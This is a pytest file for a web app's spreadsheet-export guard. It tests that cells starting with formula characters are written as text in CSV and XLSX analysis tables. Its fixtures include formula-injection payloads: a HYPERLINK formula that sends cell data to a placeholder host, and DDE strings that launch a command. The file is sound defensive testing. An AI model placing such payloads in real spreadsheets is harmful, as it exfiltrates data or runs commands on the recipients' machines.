"""The one guard every CSV and Excel export puts people's text through: text a spreadsheet would read as a
formula is written as text, numbers stay numbers; and the analysis tables, written through it."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from gongkai_web.analysis.tables import Cell, Table, to_csv, to_xlsx
from gongkai_web.common import spreadsheets

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
        "+",
    ],
)
def test_text_that_starts_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheets.cell(text) == "'" + text
    assert spreadsheets.unguard(spreadsheets.text(text)) == text


@pytest.mark.parametrize(
    "value",
    ["-3", "+5", "-1.5", "-.5", "-1e3", "-6.0%", "-6.0个百分点", "某局", "", None, -3, 0.5, True],
)
def test_numbers_and_harmless_text_stay_as_they_are(value: object) -> None:
    assert spreadsheets.cell(value) == value
    day = dt.date(2024, 1, 2)
    assert spreadsheets.row([day, value]) == [day, value]
    if isinstance(value, str):
        assert spreadsheets.unguard(value) == value


def _table() -> Table:
    return Table(
        name="排名",
        header=["机构", "实质公开率", "变化"],
        rows=[[Cell(HOSTILE), Cell("45.9%", 0.459, percent=True), Cell("-6.0个百分点", -0.06, percent=True)]],
    )


def test_an_analysis_table_as_csv_guards_the_agency_name_not_the_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE, "45.9%", "-6.0个百分点"]


def test_an_analysis_table_as_xlsx_guards_the_agency_name_not_the_numbers() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(_table(), "排名"))).active
    assert sheet is not None
    name, rate, change = sheet[2]
    assert (name.value, name.data_type) == ("'" + HOSTILE, "s")
    assert (rate.value, rate.number_format) == (0.459, "0.0%")
    assert change.value == -0.06 and change.data_type == "n"
